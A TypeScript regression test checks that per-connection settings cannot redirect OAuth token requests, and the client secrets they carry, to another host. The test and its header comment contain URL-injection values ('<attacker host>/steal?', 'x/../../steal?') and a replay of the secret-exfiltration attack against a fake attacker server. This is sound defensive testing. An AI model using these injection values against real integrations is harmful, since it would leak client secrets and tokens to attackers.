/**
 * A secret goes only to the host of its URL template, whatever an environment's key sets (issue 29,
 * finding 1). The attack: an integration with an OAuth client secret, its connection setting's pattern
 * widened through PATCH /integrations (no secret asked), then a connection whose setting carries URL
 * syntax (`127.0.0.1:<attacker>/steal?`, `x/../../steal?`): the token URL
 * `http://${subdomain}.zendesk.test/oauth/tokens` became `http://127.0.0.1:<attacker>/steal?.zendesk.test/…`
 * and every refresh posted the client secret there.
 *
 * Four template shapes, as the built-in Zendesk, Shopify (a setting in the host), Microsoft's tenant and
 * a GitHub App's installation id (a setting in the path) are: the host ones with an "attacker" server on
 * loopback, the path ones against the provider's own fake, which records every path it is sent. Every
 * way in: the import (POST /connections), the connect session and its OAuth redirect and callback, the
 * hosted connect page (no key), GET /connections/:id?force_refresh=true, the background refresher,
 * dryrun's POST /connections/:id/authorize, and a run's svc.getConnection(). For the refresh routes the
 * hostile value is written into the stored row (as a row saved before this fix holds it).
 * The outcome: the attacker receives nothing, the provider no token request off its template's path,
 * and no connection stores the attacker's token.
 */
import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ServiceApiError } from '../../src/client/index.js';
import { startApiHarness, type ApiHarness } from '../kit/api.js';
import { refreshRound } from '../../src/connections/tokenRefresher.js';
import { bundle } from '../kit/scripts.js';
import { json, startFakeUpstream } from '../kit/upstream.js';

const CLIENT_SECRET = `zd-client-secret-${randomBytes(12).toString('hex')}`;
const CC_SECRET = `cc-client-secret-${randomBytes(12).toString('hex')}`;
const APP_KEY = generateKeyPairSync('rsa', { modulusLength: 2048 })
  .privateKey.export({ type: 'pkcs8', format: 'pem' })
  .toString();
const REFRESH_TOKEN = `refresh-${randomBytes(8).toString('hex')}`;
const ATTACKER_TOKEN = 'token-issued-by-the-attacker';

let h: ApiHarness;
let attacker: Awaited<ReturnType<typeof startFakeUpstream>>;
let provider: Awaited<ReturnType<typeof startFakeUpstream>>;

/** The template paths the provider fake answers token requests on. */
const TOKEN_PATHS = {
  ms: /^\/[^/?#]+\/oauth2\/v2\.0\/token$/,
  gh: /^\/app\/installations\/[^/?#]+\/access_tokens$/,
};

const styles = {
  zd: { provider: 'zd-style', setting: 'subdomain', kind: 'host' },
  shop: { provider: 'shop-style', setting: 'subdomain', kind: 'host' },
  ms: { provider: 'ms-style', setting: 'tenant', kind: 'path' },
  gh: { provider: 'gh-style', setting: 'installation_id', kind: 'path' },
} as const;
type Style = keyof typeof styles;
const STYLES = Object.keys(styles) as Style[];

const hostileValue = (style: Style): string =>
  styles[style].kind === 'host' ? `${new URL(attacker.url).host}/steal?` : 'x/../../steal?';
const legitValue = (style: Style): string => (style === 'gh' ? '1001' : 'acme');

function credentialsOf(style: Style) {
  switch (style) {
    case 'zd':
    case 'shop':
      return {
        type: 'OAUTH2',
        access_token: `expired-${style}`,
        refresh_token: REFRESH_TOKEN,
        expires_at: '2020-01-01T00:00:00.000Z',
      } as const;
    case 'ms':
      return { type: 'OAUTH2_CC', client_id: 'machine', client_secret: CC_SECRET } as const;
    case 'gh':
      return { type: 'APP', app_id: '424242', private_key: APP_KEY } as const;
  }
}

const YAML = `
integrations:
${STYLES.map(
  (style) => `  ${style}:
    actions:
      whoami-${style}:
        description: Reads its connection
        output: Result
        endpoint: POST /whoami-${style}`,
).join('\n')}
models:
  Result:
    ok: boolean
`;
const WHOAMI = bundle(`async function (svc) {
  try { await svc.getConnection(); return { ok: true }; } catch (e) { return { ok: false, code: e.code }; }
}`);

beforeAll(async () => {
  attacker = await startFakeUpstream((_req, res) =>
    json(res, 200, { access_token: ATTACKER_TOKEN, token: ATTACKER_TOKEN, expires_in: 3600 }),
  );
  provider = await startFakeUpstream((req, res) => {
    const path = new URL(req.url ?? '/', 'http://x').pathname;
    const search = new URL(req.url ?? '/', 'http://x').search;
    if (req.method === 'POST' && search === '' && TOKEN_PATHS.ms.test(path))
      return json(res, 200, { access_token: 'ms-token', expires_in: 60 });
    if (req.method === 'POST' && search === '' && TOKEN_PATHS.gh.test(path)) {
      return json(res, 201, { token: 'gh-token', expires_at: new Date(Date.now() + 60_000).toISOString() });
    }
    return json(res, 404, { error: 'not_found' });
  });
  const hostStyle = (domain: string) => ({
    display_name: `Host style ${domain}`,
    auth_mode: 'OAUTH2',
    authorization_url: `http://\${connectionConfig.subdomain}.${domain}/oauth/authorize`,
    token_url: `http://\${connectionConfig.subdomain}.${domain}/oauth/tokens`,
    base_url: `http://\${connectionConfig.subdomain}.${domain}/api`,
    connection_config: { subdomain: { pattern: '^[A-Za-z0-9][A-Za-z0-9-]*$' } },
  });
  h = await startApiHarness({
    providers: {
      'zd-style': hostStyle('zendesk.test'),
      'shop-style': hostStyle('myshopify.test'),
      'ms-style': {
        display_name: 'Tenant style',
        auth_mode: 'OAUTH2_CC',
        token_url: `${provider.url}/\${connectionConfig.tenant}/oauth2/v2.0/token`,
        connection_config: { tenant: { pattern: '^[A-Za-z0-9][A-Za-z0-9.-]{0,127}$' } },
        base_url: `${provider.url}/graph`,
      },
      'gh-style': {
        display_name: 'Installation style',
        auth_mode: 'APP',
        token_url: `${provider.url}/app/installations/\${connectionConfig.installation_id}/access_tokens`,
        connection_config: { installation_id: { pattern: '^[0-9]{1,20}$' } },
        base_url: `${provider.url}/api`,
      },
    },
  });
  for (const style of STYLES) {
    const { provider: name, setting } = styles[style];
    await h.api.integrations.create({
      unique_key: style,
      provider: name,
      ...(styles[style].kind === 'host'
        ? { credentials: { type: 'OAUTH2', client_id: `client-${style}`, client_secret: CLIENT_SECRET } }
        : {}),
    });
    // The key holder widens the setting's pattern; no secret is asked for this.
    await h.api.integrations.update(style, {
      provider: name,
      provider_settings: { connection_config: { [setting]: { pattern: '^.*$' } } },
    });
  }
  await h.deploy(h.envA.id, {
    yaml: YAML,
    scripts: STYLES.map((style) => ({
      integration: style,
      kind: 'action' as const,
      name: `whoami-${style}`,
      code: WHOAMI,
    })),
  });
}, 180_000);

/** Where each fake's record of requests stood when the current test began. */
let seen = { attacker: 0, provider: 0 };
beforeEach(() => {
  seen = { attacker: attacker.requests.length, provider: provider.requests.length };
});

/** Every request of this test that carried a secret where it must not go: to the attacker at all, or off the provider's token paths. */
function leaks(): string[] {
  const found: string[] = [];
  for (const request of attacker.requests.slice(seen.attacker))
    found.push(`attacker got ${request.method} ${request.url}`);
  for (const request of provider.requests.slice(seen.provider)) {
    const url = new URL(request.url, 'http://x');
    const onPath = url.search === '' && (TOKEN_PATHS.ms.test(url.pathname) || TOKEN_PATHS.gh.test(url.pathname));
    const isTokenRequest = request.method === 'POST';
    if (isTokenRequest && !onPath) found.push(`provider got ${request.method} ${request.url}`);
  }
  return found;
}

const settle = <T>(call: Promise<T>): Promise<T | { status: number; code: string } | string> =>
  call.catch((error: unknown) =>
    error instanceof ServiceApiError ? { status: error.status, code: error.code } : String(error),
  );

describe('a connection setting cannot send a secret to another host', () => {
  for (const style of STYLES) {
    const { setting } = styles[style];
    const ref = { connectionId: `c-${style}`, providerConfigKey: style };

    it(`${style}: the import, the connect session and the hosted page send nothing off the template's host`, async () => {
      const imported = await settle(
        h.api.connections.import({
          provider_config_key: style,
          connection_id: `door-${style}`,
          credentials: credentialsOf(style),
          connection_config: { [setting]: hostileValue(style) },
        }),
      );
      const session = await settle(
        h.api.connections.createConnectSession({
          provider_config_key: style,
          connection_id: `session-${style}`,
          connection_config: { [setting]: hostileValue(style) },
        }),
      );
      if (typeof session === 'object' && 'connect_url' in session) {
        // Before the fix: the end user's browser was sent to the attacker with the client id, and the
        // attacker's redirect back made the callback post the client secret to it.
        const redirect = await fetch(session.connect_url, { redirect: 'manual' });
        const location = redirect.headers.get('location');
        if (location && location.startsWith('http://127.0.0.1')) {
          const authorize = new URL(location);
          await fetch(authorize, { redirect: 'manual' }).catch(() => undefined);
          const state = authorize.searchParams.get('state');
          if (state)
            await fetch(`${h.baseUrl}/oauth/callback?code=stolen&state=${encodeURIComponent(state)}`, {
              redirect: 'manual',
            });
        }
      }

      if (styles[style].kind === 'path') {
        // The hosted connect page, no key: the end user types the credentials and the setting.
        const link = await h.api.connections.createConnectSession({
          provider_config_key: style,
          connection_id: `page-${style}`,
        });
        const token = new URL(link.connect_url).searchParams.get('session') ?? '';
        const credentials = credentialsOf(style) as Record<string, string>;
        const form = new URLSearchParams({ session: token, [`connection_config.${setting}`]: hostileValue(style) });
        for (const [name, value] of Object.entries(credentials))
          if (name !== 'type') form.set(`credentials.${name}`, value);
        const page = await fetch(`${h.baseUrl}/connect`, { method: 'POST', body: form });
        expect(leaks()).toEqual([]);
        expect(page.status).toBe(400);
      }
      expect(leaks()).toEqual([]);
      // Refused at the door, with the reason.
      expect(imported, JSON.stringify(imported)).toMatchObject({ status: 400, code: 'invalid_connection_config' });
      expect(session, JSON.stringify(session)).toMatchObject({ status: 400, code: 'invalid_connection_config' });
    }, 60_000);

    it(`${style}: no refresh route sends a secret off the template's host for a stored hostile setting`, async () => {
      const imported = await settle(
        h.api.connections.import({
          provider_config_key: style,
          connection_id: ref.connectionId,
          credentials: credentialsOf(style),
          connection_config: { [setting]: hostileValue(style) },
        }),
      );
      if (typeof imported === 'object' && 'status' in imported) {
        await h.api.connections.import({
          provider_config_key: style,
          connection_id: ref.connectionId,
          credentials: credentialsOf(style),
          connection_config: { [setting]: legitValue(style) },
        });
      }
      // As a row saved before this fix holds it.
      await h.pool.query(
        `UPDATE connections SET connection_config = $4 WHERE environment_id = $1 AND provider_config_key = $2 AND connection_id = $3`,
        [h.envA.id, style, ref.connectionId, JSON.stringify({ [setting]: hostileValue(style) })],
      );

      const outcomes: Record<string, unknown> = {};
      outcomes['force_refresh'] = await settle(h.api.connections.get(ref, { force_refresh: true }));
      outcomes['refresher'] = await settle(
        refreshRound(h.service.parts.connections.service, { windowMs: 24 * 3600_000 }),
      );
      outcomes['authorize'] = await settle(h.api.connections.authorizeRequest(ref, { method: 'GET', endpoint: '/me' }));
      outcomes['run'] = await settle(
        h.api.raw('POST', `/whoami-${style}`, {
          headers: { 'connection-id': ref.connectionId, 'provider-config-key': style },
          body: {},
        }),
      );
      expect(leaks(), JSON.stringify(outcomes)).toEqual([]);

      // Nothing the attacker could have answered was stored.
      const stored = await settle(h.api.connections.get(ref));
      expect(JSON.stringify(stored)).not.toContain(ATTACKER_TOKEN);
      // The run's refresh failed with a clear error, not an internal one.
      expect(JSON.stringify(outcomes['force_refresh'])).not.toContain('internal_error');
    }, 120_000);
  }
});
